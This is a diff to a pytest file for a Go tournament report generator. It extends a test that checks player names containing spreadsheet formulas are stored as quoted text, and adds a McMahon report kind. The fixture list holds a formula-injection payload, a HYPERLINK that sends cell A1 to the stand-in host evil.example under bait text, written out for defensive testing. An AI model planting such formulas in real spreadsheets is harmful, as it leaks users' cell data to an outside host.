@@ -15,7 +15,7 @@ import pytest
 from openpyxl import load_workbook
 
 from reports import EXCEL_KINDS, build_report
-from tests.reports.conftest import as_final
+from tests.reports.conftest import as_final, with_mcmahon
 
 HOSTILE_NAMES = (
     '=HYPERLINK("http://evil.example/?"&A1,"点我领奖")',
@@ -61,11 +61,14 @@ ARGS = {
     "teams": {},
     "pairs": {},
     "prizes": {},
+    "mcmahon": {},
 }
 
 
 @pytest.mark.parametrize("kind", EXCEL_KINDS)
 def test_no_report_cell_is_a_formula_made_from_user_text(tmp_path: Path, hostile_go, kind) -> None:
+    if kind == "mcmahon":
+        with_mcmahon(hostile_go)
     out = build_report(as_final(hostile_go), kind, tmp_path / f"{kind}.xlsx", **ARGS[kind])
     texts: set[str] = set()
     for ws in load_workbook(out).worksheets:
@@ -86,7 +89,7 @@ def test_no_report_cell_is_a_formula_made_from_user_text(tmp_path: Path, hostile
                         # Kept as text even when someone edits the cell in Excel/WPS.
                         assert cell.quotePrefix, (kind, cell.coordinate, cell.value)
     hostile = set(HOSTILE_NAMES) | {HOSTILE_UNIT}
-    if kind in ("pairings", "index", "standings", "crosstable", "pairs", "prizes"):
+    if kind in ("pairings", "index", "standings", "crosstable", "pairs", "prizes", "mcmahon"):
         # The names are printed exactly as registered, as text.
         assert any(name in text for name in hostile for text in texts), (kind, sorted(texts)[:20])
         assert any(text[:1] in "=+-@" for text in texts)
